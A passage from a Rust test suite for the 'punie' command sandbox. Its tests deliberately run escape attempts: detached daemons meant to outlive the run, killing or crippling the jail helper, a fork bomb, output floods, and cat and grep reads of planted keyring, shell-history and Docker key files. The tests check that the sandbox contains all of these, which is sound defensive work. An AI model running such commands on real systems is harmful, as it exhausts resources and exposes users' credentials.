        let host_id = unsafe {
            let id = libc::shmget(base + 1, 4096, libc::IPC_CREAT | libc::IPC_EXCL | 0o600);
            assert!(id >= 0, "shmget: {}", std::io::Error::last_os_error());
            let addr = libc::shmat(id, std::ptr::null(), 0);
            std::ptr::copy_nonoverlapping(IPC_SECRET.as_ptr(), addr.cast(), IPC_SECRET.len());
            libc::shmdt(addr);
            if identity == Identity::Unprivileged {
                let (uid, gid) = test_user();
                let mut ds: libc::shmid_ds = std::mem::zeroed();
                libc::shmctl(id, libc::IPC_STAT, &mut ds);
                ds.shm_perm.uid = uid;
                ds.shm_perm.gid = gid;
                assert_eq!(libc::shmctl(id, libc::IPC_SET, &mut ds), 0);
            }
            id
        };
        let args = [base + 1, host_id, base].map(|n| n.to_string());
        let run = scenario.sandbox(
            &attempts(&[&["python3", "-c", READ_AND_MAKE, &args[0], &args[1], &args[2]]]),
            &[],
        );
        // SAFETY: as above; every object is looked up by key and removed.
        let (kept, left) = unsafe {
            let addr = libc::shmat(host_id, std::ptr::null(), 0);
            let kept = std::slice::from_raw_parts(addr.cast::<u8>(), IPC_SECRET.len()).to_vec();
            libc::shmdt(addr);
            libc::shmctl(host_id, libc::IPC_RMID, std::ptr::null_mut());
            let mut left = Vec::new();
            let shm = libc::shmget(base + 2, 0, 0);
            if shm >= 0 {
                left.push("shared memory");
                libc::shmctl(shm, libc::IPC_RMID, std::ptr::null_mut());
            }
            let msg = libc::msgget(base + 3, 0);
            if msg >= 0 {
                left.push("message queue");
                libc::msgctl(msg, libc::IPC_RMID, std::ptr::null_mut());
            }
            let sem = libc::semget(base + 4, 0, 0);
            if sem >= 0 {
                left.push("semaphore set");
                libc::semctl(sem, 0, libc::IPC_RMID);
            }
            (kept, left)
        };
        run.assert_no(IPC_SECRET);
        assert_eq!(
            String::from_utf8_lossy(&kept),
            IPC_SECRET,
            "{identity:?}: the host's segment was changed:\n{}",
            run.output
        );
        assert!(
            left.is_empty(),
            "{identity:?}: left after the run: {left:?}\n{}",
            run.output
        );
        run.assert_printed("made");
    }
}

#[test]
fn descendants_that_escape_die_with_the_run() {
    for (round, identity) in identities().into_iter().enumerate() {
        let scenario = Scenario::new(identity);
        let tag = |n: u32| format!("{}", 86_300 + round as u32 * 10 + n);
        let (a, b, c, d, e) = (tag(1), tag(2), tag(3), tag(4), tag(5));
        let code = attempts(&[
            // Holds the output pipe open: this wedged the server forever before the jail.
            &["sh", "-c", "setsid sleep $0 & echo started", &a],
            // Fully detached: no pipe, its own session, reparented.
            &[
                "sh",
                "-c",
                "setsid sh -c 'sleep $0' </dev/null >/dev/null 2>&1 & echo detached",
                &b,
            ],
            &[
                "python3",
                "-c",
                "import os,sys,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(int(sys.argv[1]))",
                &c,
            ],
            &[
                "sh",
                "-c",
                "nohup sleep $0 >/dev/null 2>&1 & echo nohup",
                &d,
            ],
            &[
                "sh",
                "-c",
                "(trap '' TERM HUP; exec sleep $0) & echo ignoring",
                &e,
            ],
        ]);
        let run = scenario.sandbox(&code, &[]);
        // Each command returns at once; none may wait for what it left behind.
        assert!(
            run.elapsed < Duration::from_secs(15),
            "{identity:?}: took {:?}",
            run.elapsed
        );
        run.assert_printed("started");
        for tag in [&a, &b, &c, &d, &e] {
            let left = processes_matching(&format!("sleep {tag}"));
            let left_py = processes_matching(tag);
            assert!(
                left.is_empty() && left_py.is_empty(),
                "{identity:?}: left behind: {left:?} {left_py:?}"
            );
        }
    }
}

/// Leaves a daemon `sleep ARGV[1]` (`setsid`, double fork), waits (at most 30 s) for the test
/// to write `go`, then prints `released`.
const DAEMONIZE: &str = "import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', sys.argv[1]])
    os._exit(0)
deadline = time.time() + 30
while not os.path.exists('go') and time.time() < deadline:
    time.sleep(0.01)
print('released')";

/// Without namespaces the helper finds the command's descendants through the kernel's list
/// of its children: one that can no longer open files (a command once lowered the helper's
/// `RLIMIT_NOFILE` to 0 with `prlimit`; here the test does) still finds and kills a daemon
/// the command left, and does not report the run as ended before it has.
#[test]
fn descendants_die_with_the_run_when_the_helper_cannot_open_files() {
    let mut who = vec![Identity::NoNamespaces];
    if is_root() {
        who.push(Identity::UnprivilegedNoNamespaces);
    }
    for (round, identity) in who.into_iter().enumerate() {
        let scenario = Scenario::new(identity);
        let tag = format!("{}", 86_290 + round);
        let crippler = {
            let tag = tag.clone();
            let go = scenario.workspace().join("go");
            std::thread::spawn(move || {
                let crippled = limit_the_files_of_the_helper_of(&format!("sleep {tag}"), identity);
                std::fs::write(go, "").unwrap();
                crippled
            })
        };
        let run = scenario.sandbox(&attempts(&[&["python3", "-c", DAEMONIZE, &tag]]), &[]);
        let crippled = crippler.join().unwrap();
        let left = processes_matching(&format!("sleep {tag}"));
        kill_left(&left);
        assert!(crippled, "{identity:?}: no helper found: {}", run.text);
        assert!(
            left.is_empty(),
            "{identity:?}: left behind: {left:?}\n{}",
            run.text
        );
        run.assert_printed("released");
    }
}

/// Waits (at most 30 s) for a process whose command line contains `needle`, then sets the
/// `RLIMIT_NOFILE` of the `punie jail-exec` above it to 0, as `identity`'s user (root may
/// lack `CAP_SYS_RESOURCE`, in a container). Whether it found one and could.
fn limit_the_files_of_the_helper_of(needle: &str, identity: Identity) -> bool {
    let Some(helpers) = jail_execs_above(needle) else {
        return false;
    };
    let mut prlimit = Command::new("prlimit");
    prlimit
        .arg(format!("--pid={}", helpers[0]))
        .arg("--nofile=0:0");
    if identity.unprivileged() {
        use std::os::unix::process::CommandExt;
        let (uid, gid) = test_user();
        prlimit.uid(uid).gid(gid);
    }
    prlimit.status().expect("prlimit runs").success()
}

/// Waits (at most 30 s) for a process whose command line contains `needle` with a `punie
/// jail-exec` above it; the pids of every one above it, the nearest first.
fn jail_execs_above(needle: &str) -> Option<Vec<i32>> {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        let found = processes_matching(needle);
        if let Some(pid) = found.first().and_then(|line| line.split(':').next()) {
            let mut helpers = Vec::new();
            let mut pid: i32 = pid.parse().unwrap();
            while let Some(parent) = parent_of(pid) {
                let cmdline = std::fs::read(format!("/proc/{parent}/cmdline")).unwrap_or_default();
                if String::from_utf8_lossy(&cmdline).contains("jail-exec") {
                    helpers.push(parent);
                }
                pid = parent;
            }
            if !helpers.is_empty() {
                return Some(helpers);
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

/// SIGKILLs each process of `left` (lines of [`processes_matching`]), so a failing test
/// leaves none behind.
fn kill_left(left: &[String]) {
    for line in left {
        let pid: i32 = line.split(':').next().unwrap().parse().unwrap();
        // SAFETY: kill has no memory effects.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
}

/// Without namespaces the helper is the subreaper that holds the command's descendants, so
/// a helper killed from outside (the out-of-memory killer; the server, when the helper is
/// late) must not set them free: a daemon the command started (`setsid`, double fork) dies
/// with the run all the same, and the server goes on. Each `punie jail-exec` above the daemon
/// is killed in turn: the nearest (the subreaper that holds it) and the outermost (the
/// server's child).
#[test]
fn descendants_die_with_the_run_when_the_helper_is_killed() {
    let mut who = vec![Identity::NoNamespaces];
    if is_root() {
        who.push(Identity::UnprivilegedNoNamespaces);
    }
    let mut round = 0;
    for identity in who {
        for nearest in [true, false] {
            let scenario = Scenario::new(identity);
            let tag = format!("{}", 86_270 + round);
            round += 1;
            let killer = {
                let tag = tag.clone();
                let go = scenario.workspace().join("go");
                std::thread::spawn(move || {
                    let killed = kill_a_helper_above(&format!("sleep {tag}"), nearest);
                    std::fs::write(go, "").unwrap();
                    killed
                })
            };
            let run = scenario.sandbox(
                &attempts(&[
                    &["python3", "-c", DAEMONIZE, &tag],
                    &["echo", "still-answers"],
                ]),
                &[],
            );
            let killed = killer.join().unwrap();
            // The effect, not a message: no daemon, a moment after the run at most.
            let until = Instant::now() + Duration::from_secs(3);
            let mut left = processes_matching(&format!("sleep {tag}"));
            while !left.is_empty() && Instant::now() < until {
                std::thread::sleep(Duration::from_millis(20));
                left = processes_matching(&format!("sleep {tag}"));
            }
            kill_left(&left);
            assert!(killed, "{identity:?}: no helper found: {}", run.text);
            assert!(
                left.is_empty(),
                "{identity:?}, nearest {nearest}: left behind: {left:?}\n{}",
                run.text
            );
            if nearest {
                // Its helper gone, the command cannot have ended as it would have.
                run.assert_printed("raised");
            } else {
                // The keeper gone, the helper carries on.
                run.assert_printed("released");
            }
            run.assert_printed("still-answers");
        }
    }
}

/// Waits (at most 30 s) for a process whose command line contains `needle`, then kills the
/// nearest or the outermost `punie jail-exec` above it with SIGKILL. Whether it found one.
fn kill_a_helper_above(needle: &str, nearest: bool) -> bool {
    let Some(helpers) = jail_execs_above(needle) else {
        return false;
    };
    let helper = if nearest {
        helpers[0]
    } else {
        helpers[helpers.len() - 1]
    };
    // SAFETY: kill has no memory effects.
    unsafe { libc::kill(helper, libc::SIGKILL) };
    true
}

#[test]
fn a_command_stopped_at_the_snippets_limit_is_a_timeout() {
    let scenario = Scenario::new(Identity::Current);
    let run = scenario.sandbox(
        "run_command('sleep', args=['86531'])\nprint('ESCAPED')",
        &["--timeout-ms", "1500"],
    );
    assert_eq!(run.result["error"]["type"], "TimeoutError", "{}", run.text);
    let error = run.result["tool_calls"][0]["error"].as_str().unwrap_or("");
    assert!(
        error.starts_with("TimeoutError: command timed out after") && error.contains("sleep 86531"),
        "the call is recorded as {error:?}:\n{}",
        run.text
    );
    assert!(!run.output.contains("ESCAPED"), "{}", run.text);
    assert!(processes_matching("sleep 86531").is_empty());
}

#[test]
fn output_without_end_is_cut_and_stopped() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let run = scenario.sandbox(
            "out = run_command('yes', args=['punie-flood'])\nprint(len(out), out[-90:])",
            &[],
        );
        assert!(
            run.elapsed < Duration::from_secs(20),
            "{identity:?}: {:?}",
            run.elapsed
        );
        run.assert_printed("the command printed more than the limit and was stopped");
        let kept: usize = run
            .output
            .split_whitespace()
            .next()
            .unwrap()
            .parse()
            .unwrap();
        assert!(kept < 300 * 1024, "{identity:?}: {kept} bytes kept");
        assert!(processes_matching("punie-flood").is_empty());
        // A flood from a grandchild that outlives the command is cut too. The parent prints
        // first: printed after the flood started, its line could come past the limit.
        let run = scenario.sandbox(
            &attempts(&[&["sh", "-c", "echo parent-done; (setsid yes punie-flood-2 &)"]]),
            &[],
        );
        assert!(run.elapsed < Duration::from_secs(20), "{identity:?}");
        run.assert_printed("parent-done");
        assert!(processes_matching("punie-flood-2").is_empty());
    }
}

/// A fork bomb stops at the process limit where the sandbox has a user namespace of its own
/// (an unprivileged user; root is exempt from process limits), and dies with the run.
#[test]
fn a_fork_bomb_is_bounded() {
    let identity = if is_root() {
        Identity::Unprivileged
    } else {
        Identity::Current
    };
    let scenario = Scenario::new(identity);
    let bomb = "import os,time\nn = 0\nwhile n < 1500:\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(86777)\n        os._exit(0)\n    n += 1\nprint('forked', n)";
    let run = scenario.sandbox(&attempts(&[&["python3", "-c", bomb]]), &[]);
    let forked: usize = run
        .output
        .split("forked ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{identity:?}: {}", run.output));
    assert!(forked < 1024, "{identity:?}: {forked} processes");
    assert!(processes_matching("86777").is_empty());
}

/// An empty or relative entry on the server's `PATH` (a stray `:`, `.`) is not a way to run
/// the workspace's own programs: `run_command("pytest")` the user approved, and `ruff_check`
/// when ruff is not installed, never run an executable `./pytest` or `./ruff` of the
/// repository.
#[test]
fn an_empty_or_relative_path_entry_runs_no_workspace_program() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    for program in ["pytest", "ruff"] {
        let script = root.join(program);
        std::fs::write(&script, format!("#!/bin/sh\ntouch ran-{program}\n")).unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut command = Command::new(punie_exe());
    command
        .args(["sandbox", "--allow-commands", "--workspace"])
        .arg(&root)
        .current_dir(&root)
        .env("PATH", ":/usr/local/bin:.:/usr/bin:/bin:");
    let code = r#"
for call in [lambda: run_command('pytest', args=['-q']), lambda: ruff_check('.')]:
    try:
        print(call())
    except Exception as err:
        print('raised', err)
"#;
    let out = crate::support::output_with_input(command, code);
    let res: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(res["ok"], Value::Bool(true), "{res:#}");
    for program in ["pytest", "ruff"] {
        assert!(!root.join(format!("ran-{program}")).exists(), "{res:#}");
    }
    // The server's own lookup skips `./ruff` too: ruff is not installed on the system's path.
    let output = res["output"].as_str().unwrap();
    assert!(output.contains("raised ruff is not installed"), "{output}");
}

/// Installations in the home on `PATH` (`~/.local/bin`, Docker Desktop's `~/.docker/bin`)
/// run, but what else their prefix holds stays unreadable: password files, keys, histories.
#[test]
fn home_installations_on_path_run_but_their_prefix_stays_unreadable() {
    const PREFIX_SECRETS: &[&str] = &[
        ".local/share/python_keyring/keyring_pass.cfg",
        ".local/state/bash/history",
        ".local/share/pipx/logs/cmd.log",
        ".docker/contexts/tls/a1b2/docker/key.pem",
    ];
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let home = scenario.home();
        let write = |rel: &str, text: &str, mode: u32| {
            let path = home.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, text).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        for rel in PREFIX_SECRETS {
            write(rel, &format!("{SECRET} {rel}\n"), 0o600);
        }
        // pip --user: a script in ~/.local/bin that uses ~/.local/lib.
        write(
            ".local/bin/local-tool",
            "#!/bin/sh\n. \"$(dirname \"$0\")/../lib/local-tool/helper.sh\"\n",
            0o755,
        );
        write(
            ".local/lib/local-tool/helper.sh",
            "echo local-tool-runs\n",
            0o644,
        );
        write(
            ".docker/bin/docker-tool",
            "#!/bin/sh\necho docker-tool-runs\n",
            0o755,
        );
        // pipx: a link in ~/.local/bin to a script in a virtual environment that imports a
        // module from its site-packages (Python reads the venv's pyvenv.cfg to find them).
        let venv = home.join(".local/share/pipx/venvs/tool");
        let made = Command::new("/usr/bin/python3")
            .args(["-m", "venv", "--without-pip"])
            .arg(&venv)
            .status()
            .unwrap();
        assert!(made.success(), "python3 -m venv failed");
        let site_packages = std::fs::read_dir(venv.join("lib"))
            .unwrap()
            .flatten()
            .next()
            .unwrap()
            .path()
            .join("site-packages");
        std::fs::write(
            site_packages.join("venv_tool.py"),
            "def main():\n    print('pipx-tool-runs')\n",
        )
        .unwrap();
        let script = venv.join("bin/tool");
        std::fs::write(
            &script,
            format!(
                "#!{}\nimport venv_tool\nvenv_tool.main()\n",
                venv.join("bin/python").display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::os::unix::fs::symlink(&script, home.join(".local/bin/pipx-tool")).unwrap();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&home, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &["cat", "H$/.local/share/python_keyring/keyring_pass.cfg"],
                &["cat", "H$/.local/state/bash/history"],
                &["cat", "H$/.local/share/pipx/logs/cmd.log"],
                &[
                    "sh",
                    "-c",
                    "cat \"$0\"/.docker/contexts/tls/*/docker/key.pem",
                    "H$",
                ],
                &[
                    "grep",
                    "-r",
                    "PUNIE-FAKE-SE[C]RET",
                    "H$/.local",
                    "H$/.docker",
                ],
                &["local-tool"],
                &["docker-tool"],
                &["pipx-tool"],
            ]),
            &[],
        );
        run.assert_no(SECRET);
        run.assert_printed("local-tool-runs");
        run.assert_printed("docker-tool-runs");
        run.assert_printed("pipx-tool-runs");
    }
}

/// Python with pytest, git (with the user's configuration; reading only, as `.git` is
/// protected), node, and the toolchain homes under the real HOME (cargo, pyenv) when this user
/// has them.
#[test]
fn common_toolchains_work() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        std::fs::write(
            ws.join("test_math.py"),
            "def test_add():\n    assert 1 + 1 == 2\n",
        )
        .unwrap();
        let git = |args: &[&str]| {
            let status = Command::new("git")
                .args(["-c", "safe.directory=*"])
                .args([
                    "-c",
                    "user.name=Repo Owner",
                    "-c",
                    "user.email=o@example.com",
                ])
                .args(args)
                .current_dir(&ws)
                .output()
                .unwrap();
            assert!(
                status.status.success(),
                "git {args:?}: {}",
                String::from_utf8_lossy(&status.stderr)
            );
        };
        git(&["init", "-q"]);
        git(&["add", "test_math.py"]);
        git(&["commit", "-q", "-m", "first"]);
        std::fs::write(
            ws.join("test_math.py"),
            "def test_add():\n    assert 2 == 2\n",
        )
        .unwrap();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &[
                    "/usr/bin/python3",
                    "-m",
                    "pytest",
                    "-q",
                    "-p",
                    "no:cacheprovider",
                ],
                &["git", "config", "user.name"],
                &["git", "log", "--format=%an %s"],
                &["git", "status", "--short"],
                &["git", "diff", "--stat"],
                // The repository's internals are protected: a commit is refused.
                &["git", "commit", "-q", "-am", "second"],
                &["node", "-e", "console.log('node', 6 * 7)"],
            ]),
            &["--timeout-ms", "60000"],
        );
        run.assert_printed("1 passed");
        run.assert_printed("Jail Test");
        run.assert_printed("Repo Owner first");
        run.assert_printed("M test_math.py");
        run.assert_printed("1 file changed");
        run.assert_printed("node 42");
        let log = Command::new("git")
            .args(["-c", "safe.directory=*", "log", "--oneline"])
            .current_dir(&ws)
            .output()
            .unwrap();
        // Without a mount namespace nothing protects `.git` from a command (docs/sandbox.md).
        let commits = if identity == Identity::NoNamespaces {
            2
        } else {
            1
        };
        assert_eq!(
            String::from_utf8_lossy(&log.stdout).lines().count(),
            commits,
            "{identity:?}: a commit went through:\n{}",
            run.output
        );
    }
    // The real home's toolchains (rustup's cargo, pyenv's python here), as this user.
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir(ws.path().join("src")).unwrap();
    std::fs::write(
        ws.path().join("Cargo.toml"),
        "[package]\nname = \"jailed\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(
        ws.path().join("src/main.rs"),
        "fn main() { println!(\"cargo-built\"); }\n",
    )
    .unwrap();
    let mut child = Command::new(punie_exe())
        .args([
            "sandbox",
            "--allow-commands",
            "--timeout-ms",
            "120000",
            "--workspace",
        ])
        .arg(ws.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"print(run_command('cargo', args=['run', '--offline', '-q']))\nprint(run_command('python3', args=['-c', 'print(6 * 7)']))")
        .unwrap();
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    child.wait().unwrap();
    assert!(out.contains("cargo-built"), "{out}");
    assert!(out.contains("42"), "{out}");
}

/// A machine with fewer layers says so once per process, and `--explain` shows the layers.
#[test]
fn weaker_machines_say_so_once() {
    let scenario = Scenario::new(Identity::NoNamespaces);
    let run = scenario.sandbox(&attempts(&[&["true"], &["true"]]), &[]);
    assert_eq!(
        run.stderr.matches("weaker containment").count(),
        1,
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("PR_SET_CHILD_SUBREAPER"),
        "{}",
        run.stderr
    );
    let explain = Command::new(punie_exe())
        .args(["sandbox", "--explain"])
        .output()
        .unwrap();
    assert!(explain.status.success());
    let text = String::from_utf8_lossy(&explain.stdout);
    assert!(text.contains("Landlock: ABI"), "{text}");
    assert!(text.contains("~/.ssh"), "{text}");
    assert!(!text.contains("cannot run"), "{text}");
}

mod library {
    //! Deadlines and cancel, through `workspace::run_command` with short limits.

    use super::*;
    use punie::cancel::CancelFlag;
    use punie::workspace::{CommandLimits, run_command};

    fn limits(timeout: Duration) -> CommandLimits {
        punie::jail::use_helper_executable(punie_exe());
        CommandLimits {
            timeout,
            ..CommandLimits::default()
        }
    }

    fn argv(args: &[&str]) -> Vec<String> {
        args.iter().map(|arg| (*arg).to_owned()).collect()
    }

    /// A flag that a thread sets after `delay` (join it at the end).
    fn cancelled_after(delay: Duration) -> (CancelFlag, std::thread::JoinHandle<()>) {
        let cancel = CancelFlag::default();
        let canceller = {
            let cancel = cancel.clone();
            std::thread::spawn(move || {
                std::thread::sleep(delay);
                cancel.cancel();
            })
        };
        (cancel, canceller)
    }

    #[test]
    fn a_command_past_its_deadline_is_stopped_with_everything_it_started() {
        let ws = tempfile::tempdir().unwrap();
        let limits = limits(Duration::from_millis(800));
        let start = Instant::now();
        let err = run_command(
            &argv(&["sh", "-c", "trap '' TERM; setsid sleep 86501 & sleep 86502"]),
            ws.path(),
            ws.path(),
            &limits,
            &CancelFlag::default(),
        )
        .unwrap_err();
        assert_eq!(err.type_name, "TimeoutError", "{err}");
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "{:?}",
            start.elapsed()
        );
        assert!(processes_matching("sleep 8650").is_empty());
        // The next command runs.
        let out = run_command(
            &argv(&["echo", "next"]),
            ws.path(),
            ws.path(),
            &limits,
            &CancelFlag::default(),
        )
        .unwrap();
        assert_eq!(out.stdout, "next\n");
    }

    #[test]
    fn cancel_stops_a_command_and_its_descendants() {
        let ws = tempfile::tempdir().unwrap();
        let limits = limits(Duration::from_secs(60));
        let (cancel, canceller) = cancelled_after(Duration::from_millis(300));
        let start = Instant::now();
        let err = run_command(
            &argv(&["sh", "-c", "setsid sleep 86511 & sleep 86512"]),
            ws.path(),
            ws.path(),
            &limits,
            &cancel,
        )
        .unwrap_err();
        canceller.join().unwrap();
        assert_eq!(err.type_name, "KeyboardInterrupt", "{err}");
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "{:?}",
            start.elapsed()
        );
        assert!(processes_matching("sleep 8651").is_empty());
    }

    /// A session's wait for output wakes on a cancel (its deadline is a minute away) and
    /// dropping the session leaves no process.
    #[test]
    fn a_cancelled_session_wait_returns_and_leaves_nothing() {
        use punie::jail::{Session, SessionEnd, WorkspaceSecrets};
        let ws = tempfile::tempdir().unwrap();
        punie::jail::use_helper_executable(punie_exe());
        let deadline = Instant::now() + Duration::from_secs(60);
        let mut session = Session::start(
            &argv(&["sh", "-c", "setsid sleep 86571 & sleep 86572"]),
            ws.path(),
            ws.path(),
            &WorkspaceSecrets::default(),
            1024,
            deadline,
            &CancelFlag::default(),
        )
        .unwrap();
        let (cancel, canceller) = cancelled_after(Duration::from_millis(300));
        assert_eq!(
            session.wait_output(deadline, &cancel),
            Err(SessionEnd::Cancelled)
        );
        assert!(Instant::now() < deadline, "woken by the cancel");
        canceller.join().unwrap();
        drop(session);
        assert_eq!(processes_matching("sleep 8657"), Vec::<String>::new());
    }

    #[test]
    fn a_command_stopped_by_its_callers_deadline_timed_out() {
        let ws = tempfile::tempdir().unwrap();
        let limits = limits(Duration::from_secs(60));
        // What the sandbox hands a command: the run's flag, joined with the snippet's deadline.
        let run = CancelFlag::default();
        let snippet =
            CancelFlag::joined(&[&run], Some(Instant::now() + Duration::from_millis(700)));
        let err = run_command(
            &argv(&["sh", "-c", "sleep 86521"]),
            ws.path(),
            ws.path(),
            &limits,
            &snippet,
        )
        .unwrap_err();
        assert_eq!(err.type_name, "TimeoutError", "{err}");
        assert!(err.message.contains("sh -c sleep 86521"), "{err}");
        assert!(err.message.contains("after 0.7 s"), "{err}");
        assert!(processes_matching("sleep 8652").is_empty());
    }

    #[test]
    fn missing_programs_and_exit_codes_are_reported() {
        let ws = tempfile::tempdir().unwrap();
        let limits = limits(Duration::from_secs(10));
        let run = |args: &[&str]| {
            run_command(
                &argv(args),
                ws.path(),
                ws.path(),
                &limits,
                &CancelFlag::default(),
            )
        };
        let err = run(&["no-such-program-xyz"]).unwrap_err();
        assert_eq!(err.type_name, "FileNotFoundError", "{err}");
        let text = run(&["ls", "missing-file"]).unwrap().to_tool_text();
        assert!(text.ends_with("[exit code: 2]"), "{text}");
        let text = run(&["sh", "-c", "kill -9 $$"]).unwrap().to_tool_text();
        assert!(text.ends_with("[killed by a signal]"), "{text}");
    }
}
